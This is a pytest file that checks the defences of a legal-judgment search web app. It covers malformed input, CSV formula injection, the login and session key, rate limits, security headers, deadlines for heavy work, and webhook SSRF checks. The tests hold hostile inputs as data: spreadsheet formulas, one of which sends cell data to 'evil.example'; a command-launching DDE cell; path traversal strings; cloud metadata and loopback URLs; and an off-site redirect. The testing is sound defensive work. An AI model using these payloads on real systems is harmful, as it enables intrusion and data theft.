"""The server under hostile or careless use (issue 16): no 500 from user input, inert CSV cells, the key
over pages too, rate limits, security headers, deadlines for heavy work, and webhooks that cannot reach
inside. Every test runs the real app over the real node and the sample corpus (TestClient or uvicorn)."""

from __future__ import annotations

import base64
import csv
import io
import json
import threading
import time
import uuid
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from opensearchpy import OpenSearch

import mappings
from backends.opensearch import IndexLayout, create_indices
from backends.webhooks import WebhookPolicy
from indexer.loaders import load
from indexer.pipeline import Pipeline
from indexer.roles.labeller import RoleLabeller
from indexer.writer import IndexWriter
from ratio.web import create_app
from ratio.web.schemas import SearchParams
from ratio.web.service import encode_cursor
from tests.waiting import serve, wait_for

QUERY = "murder conviction circumstantial evidence"
DENSE = "Held in (2017) 10 SCC 1 under section 302 of the Indian Penal Code, 1860 and Art. 21. "
SECURITY_HEADERS = ("content-security-policy", "x-frame-options", "x-content-type-options", "referrer-policy")


def _cursor(raw: str | bytes) -> str:
    data = raw.encode() if isinstance(raw, str) else raw
    return base64.urlsafe_b64encode(data).decode().rstrip("=")


# ---------------------------------------------------------------- row 5: no 500 from user input

def test_bad_cursors_are_a_typed_400(api: TestClient) -> None:
    params = SearchParams(q=QUERY)
    key = json.loads(base64.urlsafe_b64decode(encode_cursor(params, 2) + "==="))["k"]
    def page(value: str) -> str:
        return _cursor('{"p":' + value + ',"k":"' + key + '"}')

    cursors = [page("Infinity"), page("1e400"), page("-Infinity"), page("NaN"), page("2.0"), page("true"),
               page("10" * 20), _cursor('{"p":2,"k":7}'), _cursor("[1,2]"), _cursor('"p"'), _cursor(b"\xff\xfe\x00"),
               _cursor("[" * 150), "%%%", "\u00e9\u00e9", encode_cursor(params, 10**30), encode_cursor(params, 10**6)]
    for cursor in cursors:
        for route in ("/api/v1/search", "/api/v1/facets"):
            response = api.get(route, params={"q": QUERY, "cursor": cursor})
            if route.endswith("facets"):
                assert response.status_code == 200, "facets ignore the cursor"
                continue
            assert response.status_code == 400, (cursor, response.text)
            assert response.json()["error"]["code"] == "bad_query"
        posted = api.post("/api/v1/search", json={"q": QUERY, "cursor": cursor})
        assert posted.status_code == 400, (cursor, posted.text)
        page = api.get("/", params={"q": QUERY, "cursor": cursor})
        assert page.status_code == 400 and "cursor" in page.text
    good = api.get("/api/v1/search", params={"q": QUERY, "cursor": encode_cursor(params, 2)})
    assert good.status_code == 200 and good.json()["page"] == 2


def test_unknown_judgments_are_404_in_the_api_and_the_explanation_fragment(api: TestClient) -> None:
    fragment = api.get("/ui/explain", params={"q": "murder", "judgment_id": "no-such-judgment"})
    assert fragment.status_code == 404 and "no judgment" in fragment.text
    assert api.get("/ui/explain", params={"q": "murder", "judgment_id": "C1"}).status_code == 200
    assert api.get("/api/v1/explain", params={"q": "murder", "judgment_id": "no-such"}).status_code == 404
    assert api.get("/api/v1/judgments/no-such").status_code == 404


@pytest.mark.parametrize("path", [
    "/judgments/%00", "/judgments/..%2F..%2Fetc", "/judgments/" + "x" * 600, "/provisions/%2A", "/provisions/_all",
    "/?q=%22", "/?q=" + "a" * 20_000, "/?date_from=yesterday", "/?mode=nonsense", "/?role=x&mode=filter",
    "/explore?date_to=31-31-31", "/explore?q=court%3A", "/ui/explain?q=x&judgment_id=%00",
    "/ui/explain?q=x&judgment_id=" + "y" * 600, "/api/v1/judgments/%2A", "/api/v1/judgments/_search",
    "/api/v1/provisions?q=%00", "/api/v1/search?q=%00%01", "/api/v1/search?q=court:" + "(" * 500,
    "/api/v1/explain?q=x&judgment_id=_doc", "/static/../app.py",
])
def test_odd_inputs_to_pages_and_routes_are_never_a_500(api: TestClient, path: str) -> None:
    response = api.get(path)
    assert response.status_code < 500, response.text[:500]


@pytest.mark.parametrize("since, status", [
    ("2020-01-01T00:00:00-23:59", 200),  # Python takes offsets up to 24 h, OpenSearch up to 18 h
    ("2020-01-01T00:00:00+23:59", 200),
    ("9999-12-31T23:59:59-14:00", 400),  # past year 9999 in UTC
    ("0001-01-01T00:00:00+01:00", 400),  # before year 1 in UTC
    ("0001-01-01T00:00:00", 200),
])
def test_alert_check_times_with_any_offset_are_answered(api: TestClient, since: str, status: int) -> None:
    response = api.post("/api/v1/alerts/check", json={"since": since})
    assert response.status_code == status, response.text


# ---------------------------------------------------------------- row 6: CSV injection

@pytest.fixture(scope="module")
def hostile_app(client: OpenSearch, encoder, embedding_cache, tmp_path_factory, opensearch_settings):
    """An app over one judgment whose fields start like spreadsheet formulas."""
    from ratio.client import Client

    layout = IndexLayout(f"ratio-test-{uuid.uuid4().hex[:10]}")
    folder: Path = tmp_path_factory.mktemp("hostile")
    record = {"id": "F1", "title": '=HYPERLINK("http://evil.example/?x="&A1,"open")', "court": "@SUM(A1:A9)",
              "judges": ["+cmd|' /C calc'!A0", "-2+3"], "date": "1999-01-01",
              "text": "=1+1 The appellant was convicted of murder on circumstantial evidence alone. "
                      "The conviction for murder rests on the last seen theory and the recovery of the weapon. "
                      "We hold that the chain of circumstantial evidence is complete and dismiss the appeal."}
    (folder / "hostile.jsonl").write_text(json.dumps(record) + "\n")
    try:
        create_indices(client, layout, mappings.IndexOptions(dimension=384))
        aliases = layout.aliases()
        labeller = RoleLabeller.load(encoder, cache_dir=embedding_cache)
        report = IndexWriter(client, aliases, Pipeline(labeller)).run(load([str(folder)]))
        assert report.failed == [] and report.judgments_indexed == 1
        yield create_app(Client(opensearch_settings.url, prefix=layout.prefix, encoder=encoder, llm=None))
    finally:
        client.indices.delete(index=f"{layout.prefix}-*", ignore_unavailable=True)


def test_csv_cells_that_a_spreadsheet_would_run_are_made_text(hostile_app) -> None:
    with TestClient(hostile_app) as web:
        response = web.get("/api/v1/export.csv", params={"q": "murder", "limit": 5})
    assert response.status_code == 200
    (row,) = list(csv.DictReader(io.StringIO(response.text)))
    assert row["title"] == "'" + '=HYPERLINK("http://evil.example/?x="&A1,"open")'
    assert row["court"] == "'@SUM(A1:A9)"
    assert row["judges"] == "'+cmd|' /C calc'!A0; -2+3"
    for name, value in row.items():
        if name not in ("rank", "score"):
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (name, value)


# ---------------------------------------------------------------- row 12: the key over the pages, limits, headers

def test_the_key_covers_pages_and_fragments_and_a_browser_signs_in_once(ratio_client) -> None:
    with TestClient(create_app(ratio_client, api_key="s3cret"), follow_redirects=False) as web:
        for path in ("/", f"/?q={QUERY}", "/judgments/C1", "/explore", "/provisions/x"):
            response = web.get(path)
            assert response.status_code == 303 and response.headers["location"].startswith("/login?next=%2F"), path
        assert web.get("/ui/explain", params={"q": "murder", "judgment_id": "C1"}).status_code == 401
        assert web.get("/api/v1/export.csv", params={"q": "murder"}).status_code == 401
        assert web.get("/api/v1/health").status_code == 200
        assert web.get("/static/ratio.css").status_code == 200
        form = web.get("/login", params={"next": "/explore"})
        assert form.status_code == 200 and 'name="key"' in form.text and 'value="/explore"' in form.text
        wrong = web.post("/login", data={"key": "nope", "next": "/"})
        assert wrong.status_code == 401 and "ratio_session" not in wrong.headers.get("set-cookie", "")
        signed = web.post("/login", data={"key": "s3cret", "next": "/explore"})
        assert signed.status_code == 303 and signed.headers["location"] == "/explore"
        cookie = signed.headers["set-cookie"]
        assert "ratio_session=" in cookie and "HttpOnly" in cookie and "SameSite=strict" in cookie
        assert "s3cret" not in cookie, "the cookie holds a random session token, not the key"
        # the TestClient keeps the cookie, as a browser does
        assert web.get("/").status_code == 200
        assert web.get("/judgments/C1").status_code == 200
        assert web.get("/ui/explain", params={"q": "murder", "judgment_id": "C1"}).status_code == 200
        assert web.get("/api/v1/export.csv", params={"q": "murder", "limit": 2}).status_code == 200
        # a write through the API needs the header: a cookie would ride along with a cross-site form
        assert web.post("/api/v1/alerts/check", json={"judgment_ids": ["C1"]}).status_code == 401
        assert web.post("/api/v1/alerts/check", json={"judgment_ids": ["C1"]},
                        headers={"X-API-Key": "s3cret"}).status_code == 200
        out = web.get("/logout")
        assert out.status_code == 303 and "ratio_session=" in out.headers["set-cookie"]
        web.cookies.clear()
        assert web.get("/").status_code == 303
        # a link with ?key= no longer signs in (tests/ratio/web/test_web_secrets.py); next never leaves the site
        linked = web.post("/login", data={"key": "s3cret", "next": "//evil.example/x"})
        assert linked.status_code == 303 and linked.headers["location"] == "/"
        web.cookies.clear()
        web.cookies.set("ratio_session", "forged")
        assert web.get("/").status_code == 303


def test_rate_limit_answers_429_with_retry_after(ratio_client) -> None:
    with TestClient(create_app(ratio_client, rate_limit="3/minute")) as web:
        answers = [web.get("/api/v1/judgments/C1").status_code for _ in range(3)]
        assert answers == [200, 200, 200]
        limited = web.get("/api/v1/judgments/C1")
        assert limited.status_code == 429 and limited.json()["error"]["code"] == "rate_limited"
        assert 1 <= int(limited.headers["retry-after"]) <= 60
        assert web.get("/").status_code == 429, "pages count too"
        assert web.get("/api/v1/health").status_code == 200, "health is never limited"
    with TestClient(create_app(ratio_client, rate_limit="3/minute")) as other:
        assert other.get("/api/v1/judgments/C1").status_code == 200, "each app counts its own clients"


def test_every_answer_carries_the_security_headers(ratio_client) -> None:
    with TestClient(create_app(ratio_client, api_key="k", rate_limit="4/minute"), follow_redirects=False) as web:
        answers = [web.get("/api/v1/health"), web.get("/"), web.get("/login"), web.get("/static/ratio.css"),
                   web.get("/api/v1/search", headers={"X-API-Key": "k"}, params={"q": '"open'}),
                   web.get("/api/v1/nowhere")]
        answers.append(web.get("/api/v1/judgments/C1"))  # the fifth counted request: 429
        assert [a.status_code for a in answers] == [200, 303, 200, 200, 400, 401, 429]
        for answer in answers:
            for name in SECURITY_HEADERS:
                assert name in answer.headers, (answer.request.url, name)
            assert answer.headers["x-frame-options"] == "DENY"
            assert answer.headers["x-content-type-options"] == "nosniff"
            assert "frame-ancestors 'none'" in answer.headers["content-security-policy"]
        page_csp = answers[2].headers["content-security-policy"]
        assert "script-src 'self'" in page_csp and "unsafe-inline" not in page_csp.split("style-src-attr")[0]


# ---------------------------------------------------------------- heavy work: off the loop, with a deadline

def test_health_answers_while_a_heavy_citation_check_runs(ratio_client) -> None:
    import requests

    app = create_app(ratio_client)
    extract = app.state.extract_citations
    extracting = threading.Event()

    def watched(*args, **kwargs):  # the app's own extractor, which says when the heavy work has begun
        extracting.set()
        return extract(*args, **kwargs)

    app.state.extract_citations = watched
    body = {"text": (DENSE * (1_000_000 // len(DENSE)))}
    outcome: dict[str, object] = {}
    with serve(app) as url:
        def heavy() -> None:
            outcome["response"] = requests.post(f"{url}/api/v1/citations/check", json=body, timeout=300)
            outcome["finished"] = time.monotonic()

        worker = threading.Thread(target=heavy)
        worker.start()
        assert extracting.wait(120), "the server did not begin the citation check of the 1 MB body within 120 s"
        health = requests.get(f"{url}/api/v1/health", timeout=60)
        answered = time.monotonic()
        still_running = worker.is_alive()
        worker.join(300)
    assert health.status_code == 200
    assert still_running and answered < outcome["finished"], "health waited for the heavy request"
    report = outcome["response"]
    assert report.status_code == 200, report.text[:300]
    assert report.json()["characters"] > 900_000 and report.json()["found"] + report.json()["unknown"] >= 2


def test_heavy_work_past_the_deadline_is_a_typed_503(ratio_client) -> None:
    with TestClient(create_app(ratio_client, heavy_timeout=0.2)) as web:
        slow = web.post("/api/v1/citations/check", json={"text": DENSE * (1_000_000 // len(DENSE))})
        assert slow.status_code == 503 and slow.json()["error"]["code"] == "deadline_exceeded"
        assert slow.headers["retry-after"]
        assert web.get("/api/v1/health").status_code == 200


# ---------------------------------------------------------------- row 7: webhooks through the API

def test_saved_search_webhooks_must_be_public_and_without_credentials(api: TestClient, ratio_client) -> None:
    for url in ("http://169.254.169.254/latest/meta-data/", "http://10.0.0.7/hook", "http://localhost:9200/",
                "http://0x7f000001/", "http://2130706433/", "http://[::ffff:127.0.0.1]/",
                "https://user:pass@example.org/hook"):
        response = api.post("/api/v1/saved-searches", json={"name": "ssrf", "q": "murder", "webhook": url})
        assert response.status_code == 400, (url, response.text)
        assert "webhook refused" in response.json()["error"]["message"]
    assert "ssrf" not in [s["name"] for s in api.get("/api/v1/saved-searches").json()]
    allowing = create_app(ratio_client, webhooks=WebhookPolicy.from_entries(["127.0.0.1"]))
    with TestClient(allowing) as web:
        web.delete("/api/v1/saved-searches/internal")
        saved = web.post("/api/v1/saved-searches", json={"name": "internal", "q": "murder",
                                                          "webhook": "http://127.0.0.1:9/hook"})
        assert saved.status_code == 201, saved.text
        # the allowed hook is refused at send time by a server without that allow-list
    try:
        checked = api.post("/api/v1/alerts/check", json={"since": "2000-01-01T00:00:00", "notify": True}).json()
        (delivery,) = [d for d in checked["deliveries"] if d["name"] == "internal"]
        assert not delivery["ok"] and delivery["attempts"] == 0 and "loopback" in delivery["error"]
    finally:
        assert api.delete("/api/v1/saved-searches/internal").status_code == 204


# ---------------------------------------------------------------- row 8: ratio serve --workers 2

def test_ratio_serve_with_two_workers_serves(opensearch_settings, aliases, tmp_path) -> None:
    """The real command in a subprocess: uvicorn starts two worker processes from the app factory, and the
    settings given on the command line (the key here) reach both."""
    import os
    import socket
    import subprocess
    import sys

    import requests

    from tests.waiting import stop_group

    repo = Path(__file__).resolve().parents[3]
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        port = sock.getsockname()[1]
    prefix = aliases["judgments"].removesuffix("-judgments")
    env = {k: v for k, v in os.environ.items() if k != "RATIO_SERVE_CONFIG"}
    env.update(PYTHONPATH=str(repo), RATIO_API_KEY="two-workers", RATIO_LLM="none")
    log = (tmp_path / "serve.log").open("w+")
    server = subprocess.Popen([sys.executable, "-m", "ratio.cli", "--url", opensearch_settings.url, "--prefix", prefix,
                               "serve", "--port", str(port), "--workers", "2"], cwd=repo, env=env,
                              stdout=log, stderr=subprocess.STDOUT, start_new_session=True)
    base = f"http://127.0.0.1:{port}"

    def healthy() -> bool:
        assert server.poll() is None, f"ratio serve exited with {server.returncode}"
        try:
            return requests.get(f"{base}/api/v1/health", timeout=5).status_code == 200
        except requests.ConnectionError:
            return False

    try:
        wait_for(healthy, 240, "ratio serve --workers 2 to answer /api/v1/health", interval=0.5)
        assert requests.get(f"{base}/api/v1/search", params={"q": "murder"}, timeout=60).status_code == 401
        for _ in range(4):  # several requests: both workers answer (the kernel spreads the connections)
            found = requests.get(f"{base}/api/v1/search", params={"q": "murder conviction", "size": 3},
                                 headers={"X-API-Key": "two-workers"}, timeout=240)
            assert found.status_code == 200, found.text[:300]
            assert found.json()["hits"]
        # a worker starts the citation extractor's child processes too
        cited = requests.post(f"{base}/api/v1/citations/check", json={"text": DENSE * 3},
                              headers={"X-API-Key": "two-workers"}, timeout=240)
        assert cited.status_code == 200 and cited.json()["checks"], cited.text[:300]
    finally:
        stop_group(server)
        log.seek(0)
        output = log.read()
        log.close()
    assert output.count("Started server process") == 2, output[-3000:]


def test_the_remote_client_does_not_repeat_a_request_that_passed_the_deadline(ratio_client) -> None:
    from ratio.errors import UnavailableError
    from ratio.remote import RemoteClient

    calls: list[str] = []

    async def counted(scope, receive, send):
        calls.append(scope.get("path", ""))
        await app(scope, receive, send)

    app = create_app(ratio_client, heavy_timeout=0.001)
    service = app.state.service
    explore = service.explore
    answered = threading.Event()

    def held(*args, **kwargs):  # the real explore, begun only once the client has its answer: always too late
        answered.wait(60)
        return explore(*args, **kwargs)

    service.explore = held
    with serve(counted) as url:
        # explore: aggregations only, so the abandoned work is an OpenSearch call (a search would leave the
        # encoder running in a thread as the test session ends)
        try:
            with pytest.raises(UnavailableError) as caught:
                RemoteClient(url).explore(QUERY)
        finally:
            answered.set()
        assert caught.value.status == 503 and caught.value.code == "deadline_exceeded"
        assert calls.count("/api/v1/explore") == 1
